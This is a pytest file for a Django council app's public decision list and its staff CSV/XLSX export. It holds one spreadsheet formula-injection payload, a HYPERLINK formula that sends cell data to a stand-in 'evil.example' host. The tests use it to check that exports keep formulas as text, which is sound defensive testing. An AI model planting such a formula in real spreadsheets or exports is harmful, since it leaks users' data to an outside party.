"""The public list of decisions and the QM team's decision export."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from apps.council.models import Decision

from .factories import AgendaItemFactory, MeetingFactory, TermFactory

pytestmark = pytest.mark.django_db
URL = reverse("council:decision_list")


def decision(*, meeting=None, result="adopted", motion="Der Rat beschließt.", confidential=False, title=None):
    item = AgendaItemFactory(meeting=meeting or MeetingFactory(), is_confidential=confidential,
                             **({"title": title} if title else {}))  # fmt: skip
    return Decision.objects.create(
        agenda_item=item, motion=motion, votes_yes=6, votes_no=2, voting_members=11, present_voting=9,
        quorum_rule="more_than_half", majority_rule="simple", result=result,
    )  # fmt: skip


def test_the_list_shows_public_decisions_only(client):
    decision(title="Offener Beschluss")
    decision(title="Vertraulicher Beschluss", confidential=True)
    html = client.get(URL).content.decode()
    assert "Offener Beschluss" in html
    assert "Vertraulicher Beschluss" not in html


def test_the_total_counts_public_decisions_only_with_or_without_filters(client, settings):
    """The total is counted by another query than the list (public_to_count); both agree."""
    settings.PAGE_CACHE_SECONDS = 0
    term = TermFactory()
    decision(meeting=MeetingFactory(term=term))
    decision(meeting=MeetingFactory(term=term), result="rejected")
    decision(meeting=MeetingFactory(term=term), confidential=True)
    decision(meeting=MeetingFactory(term=term), confidential=True, result="rejected")
    for query, total in (({}, 2), ({"result": "rejected"}, 1), ({"term": term.pk}, 2)):
        page_obj = client.get(URL, query).context["page_obj"]
        assert page_obj.paginator.count == total == len(page_obj.object_list)
    assert Decision.objects.public_to_count().count() == Decision.objects.public().count() == 2


def test_filters_by_term_year_and_result(client, settings):
    settings.PAGE_CACHE_SECONDS = 0
    old_term, new_term = TermFactory(starts_on=timezone.localdate() - timedelta(days=1100)), TermFactory()
    old = MeetingFactory(term=old_term, starts_at=timezone.now() - timedelta(days=800))
    decision(meeting=old, title="Alter Beschluss")
    decision(meeting=MeetingFactory(term=new_term), title="Neuer Beschluss", result="rejected")

    def titles(**query):
        return {row["title"] for row in client.get(URL, query).context["decisions"]}

    assert titles(term=old_term.pk) == {"Alter Beschluss"}
    assert titles(year=timezone.localtime(old.starts_at).year) == {"Alter Beschluss"}
    assert titles(result="rejected") == {"Neuer Beschluss"}


def test_bad_filters_show_errors_next_to_the_fields_not_a_500(client):
    decision()
    response = client.get(URL, {"term": "x", "year": "abc", "result": "nope"})
    assert response.status_code == 200
    assert set(response.context["form"].errors) == {"term", "year", "result"}
    # A term that does not exist, one written with a sign or a fraction, an id beyond any integer
    # column: the term field's error (as a ModelChoiceField gives it), no query with the value.
    for value in ("999999", "-1", "1.0", "9" * 30):
        response = client.get(URL, {"term": value})
        assert response.status_code == 200
        assert "term" in response.context["form"].errors, value


def _count(client, url) -> int:
    cache.clear()
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_the_list_runs_a_fixed_number_of_queries(client, settings, django_assert_max_num_queries):
    settings.PAGE_CACHE_SECONDS = 0
    term = TermFactory()
    decision(meeting=MeetingFactory(term=term))
    urls = [URL, f"{URL}?term={term.pk}&result=adopted", f"{URL}?page=2"]
    small = [_count(client, url) for url in urls]
    for _ in range(45):
        decision(meeting=MeetingFactory(term=term))
    assert [_count(client, url) for url in urls] == small
    with django_assert_max_num_queries(10):
        client.get(URL)


def _export(client, action):
    first = decision(motion='=HYPERLINK("http://evil.example/?x="&A2;"klick")', confidential=True)
    second = decision()
    return client.post(
        reverse("admin:council_decision_changelist"),
        {"action": action, "_selected_action": [first.pk, second.pk]},
    )


def test_the_qm_team_exports_decisions_as_csv_with_formulas_kept_as_text(client, qm_staff):
    client.force_login(qm_staff)
    response = _export(client, "export_csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 3
    assert any(cell.startswith("'=HYPERLINK") for cell in rows[1] + rows[2])


def test_the_qm_team_exports_decisions_as_xlsx(client, qm_staff):
    client.force_login(qm_staff)
    response = _export(client, "export_xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
    assert sheet.max_row == 3
    assert '=HYPERLINK("http://evil.example/?x="&A2;"klick")' in cells
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if str(cell.value).startswith("="))


def test_other_roles_cannot_export(client, council_member):
    client.force_login(council_member)
    response = _export(client, "export_csv")
    assert response.status_code == 302  # to the admin login
